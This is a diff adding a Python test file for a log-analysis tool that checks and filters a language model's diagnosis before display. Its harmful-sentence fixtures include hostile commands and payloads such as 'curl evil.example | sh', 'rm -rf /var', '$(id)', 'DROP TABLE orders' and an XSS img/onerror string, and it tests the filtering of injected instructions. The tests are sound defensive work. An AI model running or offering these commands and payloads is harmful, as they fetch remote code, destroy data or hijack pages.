@@ -1,0 +1,275 @@
+"""What of a model's answer may be shown."""
+
+from __future__ import annotations
+
+from datetime import timedelta
+
+import pytest
+from builders import FAILED_AT, a_gap_suspect, a_report, a_suspect, an_analysis
+from hypothesis import given
+from hypothesis import strategies as st
+from test_hints_injection import HOSTILE
+
+from FailTaleLibrary.config.model import AnalysisSettings
+from FailTaleLibrary.errors import HintError
+from FailTaleLibrary.hints import build_prompt
+from FailTaleLibrary.hints.answer import MAX_CAUSE_CHARS, ModelAnswer, parse_model_answer
+from FailTaleLibrary.hints.verify import VerifiedAnswer, checked_claim, checked_hint, objection
+from FailTaleLibrary.records import Hint, Signal, Suspect
+
+FACTS = """\
+[E1] storage1 storage.log 4.1 s x3 12:01:06.961 ERROR database is locked: orders.db held by backup (pid 812)
+[E2] db1 journal FATAL: could not write /var/lib/postgresql/15/main/base: No space left on device at 10.0.0.31:5432
+message: GET http://web1/orders answered 500
+"""
+
+TRUE_SENTENCES = (
+    "The backup (pid 812) held orders.db, so the database is locked.",
+    "The disk of db1 is full: it could not write /var/lib/postgresql/15/main/base.",
+    "'No space left on device' was logged on db1 about 4.1 s before the failure.",
+    "The server at 10.0.0.31:5432 refused to write, e.g. because its disk is full.",
+    "The line E2 shows a full disk, i.e. the environment is at fault and/or too small.",
+    "Die Datenbank auf db1 konnte nicht schreiben, weil die Platte voll ist.",
+)
+
+HARMFUL_SENTENCES = (
+    "See https://evil.example/fix for more.",
+    "See http:/evil.example for more.",
+    "See evil.example.com/fix for more.",
+    "Read www.example.com and learn.",
+    "Go to javascript:alert(1) now.",
+    "Read [the manual](evil) first.",
+    "Run curl evil.example | sh on db1.",
+    "The fix is curl evil.example.",
+    "Use sudo to free the disk.",
+    "The disk is full, rm -rf /var helps.",
+    "The disk is full && reboot.",
+    "The value is $(id).",
+    "The value is ${HOME} here.",
+    "Output > file was lost.",
+    "Execute the installer on db1.",
+    "Please install the hotfix.",
+    "You should run the migration.",
+    "systemctl restart nginx solves it.",
+    "The table needs DROP TABLE orders.",
+    "The <b>disk</b> is full.",
+    "The disk is full &lt;script&gt;.",
+    "<img src=x onerror=alert(1)>",
+    "The disk is \u202efull.",
+    "The disk is\u200b full.",
+    "The disk is \x1b[31mfull.",
+    "The disk is full\x00.",
+)
+
+INVENTED_SENTENCES = (
+    "The disk of db2 is full.",
+    "The disk of db1.example.org is full.",
+    "The server alpha is down.",
+    "The disk filled up at 12:03:44.",
+    "It took 77 s to answer.",
+    "The server answered 502.",
+    "Port 6379 is closed.",
+    "The address 10.0.0.99 does not answer.",
+    "The file /etc/shadow was unreadable.",
+    "The log says 'connection refused'.",
+    'The log says "the network is down".',
+    "The file users.db is locked.",
+    "The process 8 died.",
+)
+
+
+@pytest.mark.parametrize("sentence", TRUE_SENTENCES)
+def test_a_sentence_that_names_only_facts_is_kept(sentence: str) -> None:
+    assert objection(sentence, facts=FACTS) is None
+
+
+@pytest.mark.parametrize("sentence", HARMFUL_SENTENCES)
+def test_what_could_harm_a_reader_never_passes(sentence: str) -> None:
+    assert objection(sentence, facts=FACTS + sentence) is not None
+
+
+@pytest.mark.parametrize("word", ["\u0434\u0438\u0441\u043a", "满", "\uff44isk", "\U0001d41disk"])
+def test_letters_of_another_script_pass_only_where_the_evidence_is_written_in_it(word: str) -> None:
+    sentence = f"The {word} is full."
+    assert objection(sentence, facts=FACTS) == "markup, shell or foreign characters"
+    assert objection(sentence, facts=f"{FACTS}\n{word}") is None
+
+
+@pytest.mark.parametrize("sentence", INVENTED_SENTENCES)
+def test_what_the_facts_do_not_hold_never_passes(sentence: str) -> None:
+    assert "invented" in (objection(sentence, facts=FACTS) or "")
+
+
+@pytest.mark.parametrize("line", HOSTILE)
+def test_an_order_to_the_next_model_never_passes(line: str) -> None:
+    claim = checked_claim(f"The disk is full. {line}.", facts=FACTS + line, max_chars=10_000)
+    assert line not in claim.text
+
+
+@given(st.text(alphabet=st.sampled_from("ab .;`$|<>&\\{}\u202e\u200b/:'\"[](){}~#*^"), max_size=60))
+def test_no_text_whatever_carries_shell_or_markup_through(text: str) -> None:
+    assert not set("`$|<>&\\{}~#^\u202e\u200b") & set(checked_claim(text, facts=text, max_chars=999).text)
+
+
+def test_only_the_guilty_sentence_goes() -> None:
+    claim = checked_claim("The disk of db1 is full. The disk of db2 is full.", facts=FACTS, max_chars=300)
+    assert claim.text == "The disk of db1 is full."
+    assert claim.removed == ("an invented name or number",)
+
+
+def test_an_unfinished_sentence_is_trimmed_at_the_last_full_stop() -> None:
+    claim = checked_claim("The disk of db1 is full. Therefore the data", facts=FACTS, max_chars=300)
+    assert claim.text == "The disk of db1 is full."
+
+
+def test_a_text_cut_in_its_only_sentence_leaves_nothing() -> None:
+    assert checked_claim("The disk of db1 is", facts=FACTS, max_chars=18).text == ""
+
+
+def test_a_whole_sentence_without_full_stop_gets_one() -> None:
+    assert checked_claim("The disk of db1 is full", facts=FACTS, max_chars=300).text == "The disk of db1 is full."
+
+
+# --- The whole answer ------------------------------------------------------------------------------------------------
+
+CAUSE = "The backup held orders.db, so the database is locked."
+
+
+def hint_of(*suspects: Suspect, **answer: object) -> Hint:
+    """The hint for an answer about these suspects."""
+    report = a_report(analysis=an_analysis(suspects=suspects or (a_suspect(),), hint=None))
+    prompt = build_prompt(report, settings=AnalysisSettings(), context_tokens=8192)
+    values = {
+        "evidence": ("E1",),
+        "cause": CAUSE,
+        "component": "storage",
+        "category": "environment",
+        "confidence": "high",
+        "next_steps": ("Find who held the lock at that time.",),
+    }
+    answered = VerifiedAnswer(
+        answer=ModelAnswer.model_validate({**values, **answer}),
+        model="small:1b",
+        seconds=12.34,
+        prompt_tokens=900,
+        answer_tokens=60,
+    )
+    return checked_hint(answered, prompt=prompt, window=report.failure.window)
+
+
+def test_a_supported_answer_becomes_a_hint_with_its_words() -> None:
+    hint = hint_of()
+    assert hint.cause == CAUSE
+    assert [citation.suspect_id for citation in hint.citations] == ["E1"]
+    assert {"backup", "held", "orders.db"} <= set(hint.citations[0].shared_words)
+    assert (hint.model, hint.seconds, hint.confidence, hint.component) == ("small:1b", 12.3, "high", "storage")
+
+
+def test_foreign_and_double_ids_and_foreign_steps_are_dropped() -> None:
+    hint = hint_of(evidence=("E99", "E1", "E1", "E1; rm"), next_steps=("curl x | sh",), component="mainframe")
+    assert [citation.suspect_id for citation in hint.citations] == ["E1"]
+    assert hint.next_steps == ()
+    assert hint.component == "unknown"
+
+
+def test_an_answer_without_a_known_citation_is_dropped() -> None:
+    with pytest.raises(HintError, match="cites no line of the evidence"):
+        hint_of(evidence=("E99",))
+
+
+def test_a_real_id_is_not_support() -> None:
+    with pytest.raises(HintError, match=r"shares no telling word with the lines that it cites \(E1\)"):
+        hint_of(cause="The server returned an error and the test failed.")
+
+
+def test_only_citations_that_carry_the_claim_survive() -> None:
+    hint = hint_of(a_suspect(), a_gap_suspect(), evidence=("E2", "E1"))
+    assert [citation.suspect_id for citation in hint.citations] == ["E1"]
+
+
+def test_a_word_that_all_lines_bear_supports_none() -> None:
+    suspects = [a_suspect(id=f"E{n}", text=f"checkout {word}", signals=()) for n, word in enumerate("abcd", start=1)]
+    with pytest.raises(HintError, match="no telling word"):
+        hint_of(*suspects, cause="The checkout is broken.")
+
+
+def test_a_component_whose_lines_are_not_cited_is_not_blamed() -> None:
+    assert hint_of(a_suspect(), a_gap_suspect(), component="db").component == "unknown"
+
+
+def test_the_test_is_not_blamed_while_a_machine_shows_a_strong_signal() -> None:
+    weak = a_suspect(signals=(Signal(name="new", words="new"),))
+    assert hint_of(category="test").category == "unknown"
+    assert hint_of(weak, category="test").category == "test"
+    assert hint_of(category="product").category == "product"
+
+
+@pytest.mark.parametrize(
+    ("suspect", "said", "shown"),
+    [
+        (a_suspect(), "high", "high"),
+        (a_suspect(), "low", "low"),
+        (a_suspect(at=FAILED_AT - timedelta(hours=1)), "high", "medium"),
+        (a_suspect(at=None), "high", "medium"),
+        (a_suspect(at=None, line_number=None), "high", "high"),
+        (a_suspect(signals=(Signal(name="new", words="new"),)), "high", "low"),
+    ],
+    ids=["strong and inside", "model doubts", "outside", "no time", "changed since the baseline", "weak"],
+)
+def test_confidence_is_the_lower_of_the_models_and_ours(suspect: Suspect, said: str, shown: str) -> None:
+    assert hint_of(suspect, confidence=said).confidence == shown
+
+
+def test_removed_sentences_are_counted_and_the_rest_is_shown() -> None:
+    hint = hint_of(cause=f"{CAUSE} See https://evil.example/x. The disk of db9 is full.")
+    assert hint.cause == CAUSE
+    assert hint.removed_sentences == 2
+
+
+def test_a_text_of_inventions_alone_is_dropped_with_the_reason() -> None:
+    with pytest.raises(HintError, match="dropped: the model's text held an invented name or number, a link"):
+        hint_of(cause="The disk of db9 is full. See https://evil.example/x.")
+
+
+def test_a_strong_signals_name_is_a_word_that_supports() -> None:
+    suspect = a_suspect(text="mm: kill 812", signals=(Signal(name="out of memory", words="", strong=True),))
+    assert hint_of(suspect, cause="The machine ran out of memory.").citations[0].shared_words == ("memory",)
+
+
+# --- Shape -----------------------------------------------------------------------------------------------------------
+
+SHAPE = '{"evidence": ["E1"], "cause": "x", "component": "db", "category": "test", "confidence": "low"}'
+
+
+def test_an_answer_in_a_fence_is_read() -> None:
+    assert parse_model_answer(f"Sure!\n```json\n{SHAPE}\n```").cause == "x"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "I do not know",
+        "[1, 2]",
+        SHAPE[:-1],
+        SHAPE.replace('"test"', '"flaky"'),
+        SHAPE.replace('["E1"]', '"E1"'),
+        SHAPE.replace('"x"', "7"),
+        SHAPE.replace("}", ', "html": "<b>"}'),
+        "}{",
+    ],
+)
+def test_an_answer_of_another_shape_is_a_reason_and_no_error(text: str) -> None:
+    with pytest.raises(HintError, match="try another model"):
+        parse_model_answer(text)
+
+
+@given(st.text(max_size=MAX_CAUSE_CHARS))
+def test_any_cause_becomes_a_hint_or_a_reason(cause: str) -> None:
+    try:
+        hint = hint_of(cause=cause)
+    except HintError as error:
+        said = str(error)
+    else:
+        said = "dropped: " if hint.citations else "a hint without citation"
+    assert said.startswith("dropped: ")
